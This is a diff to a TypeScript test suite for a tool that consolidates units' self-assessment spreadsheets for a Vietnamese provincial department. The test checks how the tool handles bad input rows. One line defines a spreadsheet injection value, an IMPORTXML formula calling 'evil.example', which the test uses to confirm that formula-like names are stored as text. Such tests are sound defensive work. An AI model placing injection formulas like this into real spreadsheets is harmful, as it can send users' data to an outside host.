@@ -11,7 +11,16 @@ import {
 } from "../../src/server/province/consolidate";
 import { handOutTables } from "../../src/server/province/hand-out";
 import type { FakeProvince } from "../fakes/drive";
-import { COL, idOnRow, leafRows, provinceWith, specFor, unitRows, type UnitRow } from "./province-fixture";
+import {
+  COL,
+  idOnRow,
+  leafRows,
+  provinceWith,
+  specFor,
+  typeOneScore,
+  unitRows,
+  type UnitRow,
+} from "./province-fixture";
 
 const FORMULA_NAME = '=IMPORTXML("http://evil.example","//a")';
 
@@ -75,6 +84,7 @@ describe("bad input in the Sở's spreadsheet", () => {
   it("consolidates the rest and lists every other row with its reason — nothing dropped", () => {
     const { env, units } = badProvince();
     handOutTables(env.services, "vi", 50);
+    for (const row of [2, 3, 4, 5, 9]) typeOneScore(env, row, units[row - 2]!);
     // Unit on row 3 renamed its sheet: still found (by the tool's metadata) and ranked.
     env.world.book(idOnRow(env, 3))._sheet("Tự đánh giá 2025")._name = "Bảng của chúng tôi";
     // Unit on row 4 copied its table into a new sheet and deleted the tool's one.
@@ -90,7 +100,9 @@ describe("bad input in the Sở's spreadsheet", () => {
     expect(byFile["Đơn vị!E6"]).toMatch(/trùng|A6/);
     expect(byFile["Đơn vị!E7"]).toMatch(/không phải là đường dẫn/);
     expect(byFile["Đơn vị!E8"]).toMatch(/không có quyền mở/);
-    expect(byFile["Đơn vị!E4"]).toMatch(/Không tìm thấy trang chấm điểm/);
+    expect(byFile["Đơn vị!E4"]).toMatch(
+      /Không tìm thấy bảng chấm điểm trong tệp \(đã xem các trang “Bản sao”\)/,
+    );
     expect(ranked.length + failed.length).toBe(units.length);
     // The failed sheet lists them; the formula-like name is text in the ranking sheet.
     const failedSheet = env.control._sheet(done.sheets.at(-1)!);
